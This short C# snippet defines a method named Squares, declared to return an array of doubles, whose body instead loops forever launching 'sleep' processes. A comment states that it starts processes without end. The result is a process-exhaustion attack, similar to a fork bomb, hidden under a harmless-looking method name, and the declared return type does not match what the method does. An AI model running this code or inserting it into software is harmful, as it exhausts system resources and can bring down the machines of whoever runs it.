// Starts processes without end.
double[] Squares(int n)
{
    while (true) System.Diagnostics.Process.Start("sleep", "1000");
}
